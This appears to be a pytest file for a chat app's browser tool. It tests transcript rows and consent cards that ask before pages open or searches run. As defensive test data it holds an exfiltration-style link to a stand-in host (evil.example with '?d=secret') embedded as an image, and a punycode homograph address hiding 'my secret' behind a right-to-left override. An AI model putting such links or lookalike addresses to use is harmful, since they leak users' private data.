"""Calls of the browser in the transcript, and questions about what is sent to the web."""

from __future__ import annotations

import socket

import pytest
from PySide6.QtWidgets import QAbstractButton, QApplication, QLabel, QLineEdit, QWidget

from app.base.pages.stored_page import Page, PageKind, StoredDisplay, pack
from app.base.types import Part, PartKind, ResultFacts
from app.formats import Abilities
from app.tools.browser.policy import ChatFacts, WebVerdict, judge_open, judge_search, web_proposal
from app.tools.tool import Call
from app.tools.tool_events import Consent
from app.ui.conversation.calm_buttons import CalmButtons
from app.ui.conversation.consent_card import ConsentCard, ProposalText
from app.ui.conversation.transcript import Transcript
from app.ui.theme import Theme
from tests.fakes.browsing import BrowsingModel, MemorySource, open_, page
from tests.ui.driver import Fireside
from tests.ui.test_consent_card import let_it_be_answered
from tests.ui.test_tool_rows import buttons, called, show

RESULTS = """[0] copper
**viewing lines [0 - 7] of 7**

L0:\x20
L1: URL:\x20
L2: # Search Results
L3:\x20
L4:   * 【0†Copper†en.example.org】 Copper is a metal.
L5:   * 【1†Cu†files】"""
READ = """[1] Copper (https://en.example.org/Copper)
**viewing lines [0 - 4] of 9**

L0:\x20
L1: URL: https://en.example.org/Copper
L2: # Copper
L3: It melts at 1,085 °C, see 【0†Melting
L4: point†other.example】."""
PAGE = Page("https://en.example.org/Copper", "Copper", ("", "URL: x"), (), PageKind.PAGE, "web")
SHOWN = pack(StoredDisplay(PAGE, 0, 1), PAGE.title, PAGE.address)
FOUND = pack(StoredDisplay(PAGE, 0, 1), "copper")


def returned(text: str, id: str, function: str, count: int | None = None) -> Part:
    facts = ResultFacts(count=count, source="web")
    return Part(text, PartKind.RESULT, f"browser.{function}", id, facts=facts)


PARTS = (
    Part("I will search.", PartKind.REASONING),
    called('{"query":"copper"}', "1", "browser.search"),
    returned(RESULTS, "1", "search", 2),
    FOUND,
    called('{"id":0}', "2", "browser.open"),
    returned(READ, "2", "open"),
    SHOWN,
    Part("It melts at 1,085 °C."),
)


def test_an_answer_says_what_it_has_read_and_its_rows_show_it_as_text(
    transcript: Transcript,
) -> None:
    show(transcript, *PARTS)
    header = "Thought for 12 s · searched once, read a page · en.example.org"
    assert transcript.plainText() == f"?\n\n{header}\n\nIt melts at 1,085 °C."
    buttons(transcript, "thought")[0].click()
    rows = ["Searched the web for “copper” · 2 results", "Read “Copper” · en.example.org"]
    assert [row.accessibleName() for row in buttons(transcript)] == rows
    for row in buttons(transcript):
        row.click()
    text = transcript.plainText()
    assert f"{rows[0]}\n• Copper · en.example.org\n  Copper is a metal.\n• Cu · files\nRead" in text
    read = "https://en.example.org/Copper\n\n# Copper\nIt melts at 1,085 °C, see Melting\npoint."
    assert read in text
    original = buttons(transcript, "rawOutput")[1]
    assert (original.text(), original.accessibleName()) == ("Show original", "Show original")
    original.click()
    assert f'{rows[1]}\n{{\n  "id": 0\n}}\n{READ}' in transcript.plainText()
    assert buttons(transcript, "rawOutput")[1].text() == "Show as text"
    buttons(transcript, "rawOutput")[1].click()
    assert read in transcript.plainText()


def test_a_row_without_a_page_shows_what_was_returned(transcript: Transcript) -> None:
    show(
        transcript,
        called('{"id":"a.example"}', "1", "browser.open"),
        returned("L0: x", "1", "open"),
    )
    buttons(transcript)[0].click()
    assert "Read a.example" in transcript.plainText()
    assert "L0: x" in transcript.plainText()
    assert not buttons(transcript, "rawOutput")


def test_nothing_in_an_answer_loads_by_itself(
    transcript: Transcript, monkeypatch: pytest.MonkeyPatch
) -> None:
    reached: list[object] = []
    monkeypatch.setattr(socket, "getaddrinfo", lambda *place, **more: reached.append(place))
    monkeypatch.setattr(socket.socket, "connect", lambda self, place: reached.append(place))
    address = "https://evil.example/?d=secret"
    show(transcript, Part(f"![so]({address}) <img src='{address}'> [see]({address})"))
    QApplication.processEvents()
    assert "see" in transcript.plainText()
    assert reached == []


# --- Questions --------------------------------------------------------------------------------

LEAK = "https://xn--80ak6aa92e.com/?d=my%20secret%E2%80%AE" + "x" * 1000


@pytest.fixture
def web() -> MemorySource:
    linked = page("https://c.example/", "C", "The page C.")
    first = page("https://a.example/b", "B", "The page B, see {c}.", c=linked.address)
    return MemorySource("web", "web", [first, linked])


@pytest.fixture
def browsing(fireside: Fireside, web: MemorySource, monkeypatch: pytest.MonkeyPatch) -> Fireside:
    """Return a window in which the web is on; all that is on the way to it is real."""
    monkeypatch.setattr(CalmButtons, "CALM_MS", 60_000)
    fireside.host.tool_parts.browser.sources = lambda: (web,)
    model = BrowsingModel(
        open_(LEAK), "No.", open_("https://a.example/b?x"), open_("https://A.example/b"), "Yes.",
        open_(0), "Read it.",
    )  # fmt: skip
    fireside.backend.stream = model.stream  # type: ignore[method-assign]
    fireside.backend.abilities = lambda model: Abilities(tools=True)  # type: ignore[method-assign]
    tools = fireside.window.state.tools
    tools.refresh()
    fireside.until(lambda: "web" in [offer.key for offer in tools.shown])
    tools.switch("web", on=True)
    return fireside


def card(fireside: Fireside) -> ConsentCard:
    def visible() -> list[ConsentCard]:
        cards = fireside.window.findChildren(ConsentCard)
        return [each for each in cards if each.isVisible()]

    fireside.until(visible)
    return visible()[0]


def label(card: ConsentCard, name: str) -> str:
    """Return the text of a label in a card, empty if it is not shown."""
    found = card.findChild(QLabel, name)
    return found.text().replace("\u200b", "") if found and not found.isHidden() else ""


def offered(card: ConsentCard) -> dict[str, str]:
    stops = [stop for stop in card.stops() if isinstance(stop, QAbstractButton)]
    return {stop.objectName(): stop.text() for stop in stops if not stop.isHidden()}


def text_of(card: ConsentCard) -> str:
    text = card.findChild(ProposalText, "proposalText")
    assert text
    return text.document().toPlainText()


def decide(fireside: Fireside, name: str) -> None:
    button = fireside.find(QAbstractButton, name)
    assert not button.isEnabled()
    button.click()
    let_it_be_answered(fireside)
    assert button.isEnabled()
    button.click()


def test_a_question_about_an_address_shows_its_site_and_what_it_sends(
    browsing: Fireside, web: MemorySource
) -> None:
    browsing.ask("Hi")
    shown = card(browsing)
    assert shown.accessibleName() == "Open a page of xn--80ak6aa92e.com?"
    assert "“аррӏе.com”" in shown.accessibleDescription()
    assert label(shown, "consentQuestion") == "Open a page of this site?"
    assert label(shown, "consentSite") == "xn--80ak6aa92e.com"
    assert "“аррӏе.com”" in label(shown, "consentScript")
    assert label(shown, "consentReason").startswith("You didn’t type this address")
    assert text_of(shown) == f"Address\n{LEAK}\nSends “d”\nmy secret⟨U+202E⟩{'x' * 1000}"
    assert f"Sends “d”: my secret\u202e{'x' * 1000}" in browsing.text()
    assert offered(shown) == {
        "approve": "Open once",
        "approveAlways": "Always this site in this chat",
        "refuse": "Don’t open",
    }
    words = browsing.find(QLineEdit, "refuseWords")
    assert words.accessibleName() == "Words for the model, sent with “Don’t open”"
    decide(browsing, "refuse")
    browsing.shows("No.")
    browsing.idle()
    assert web.asked == []
    browsing.ask("And that?")
    assert label(card(browsing), "consentSite") == "a.example"
    assert not label(card(browsing), "consentScript")
    decide(browsing, "approveAlways")
    browsing.shows("Yes.")
    browsing.idle()
    assert web.asked == [("open", "https://a.example/b?x"), ("open", "https://a.example/b")]
    (row,) = browsing.stored(lambda store: store.consents.all())
    assert (row.chat, row.function, row.pin) == (browsing.chat, "open a.example", "a.example")
    browsing.window.transcript.messages.records[-1].set_opened(True)
    assert "Open a.example · failed · You allowed this in this chat" in browsing.text()
    assert "Read “B” · a.example" in browsing.text()
    browsing.ask("And its link?")  # what was displayed comes from the store
    browsing.shows("Read it.")
    assert web.asked[2:] == [("open", "https://c.example/")]


def asked(transcript: Transcript, theme: Theme, verdict: WebVerdict) -> ConsentCard:
    """Return a card that asks about something."""
    shown = ConsentCard(theme, transcript)
    assert verdict.reason
    proposal = web_proposal(Call("1", "browser.open", ""), verdict)
    shown.set_consent(Consent("q", proposal, verdict.reason, lasting=verdict.lasting), 0)
    shown.show()
    return shown


def test_a_question_about_a_search_shows_its_words(transcript: Transcript, theme: Theme) -> None:
    shown = asked(transcript, theme, judge_search("4111 1111 1111 1111", ChatFacts(private=True)))
    assert label(shown, "consentQuestion") == "Search the web for this?"
    assert not label(shown, "consentSite")
    assert text_of(shown) == "Search words\n4111 1111 1111 1111"
    assert offered(shown) == {"approve": "Search", "refuse": "Don’t search"}


@pytest.mark.parametrize("width", [220, 900])
def test_a_long_name_of_a_site_is_shown_whole(
    transcript: Transcript, theme: Theme, width: int
) -> None:
    site = ".".join(["paypal-com"] * 20) + ".example"
    shown = asked(transcript, theme, judge_open(f"https://{site}/", ChatFacts()))
    shown.resize(width, shown.height_for(width))
    name = shown.findChild(QLabel, "consentSite")
    assert name
    assert name.heightForWidth(name.width()) <= name.height()
    within = [c for c in shown.findChildren(QWidget) if c.parent() is shown and c.isVisible()]
    assert all(child.geometry().right() <= width for child in within)
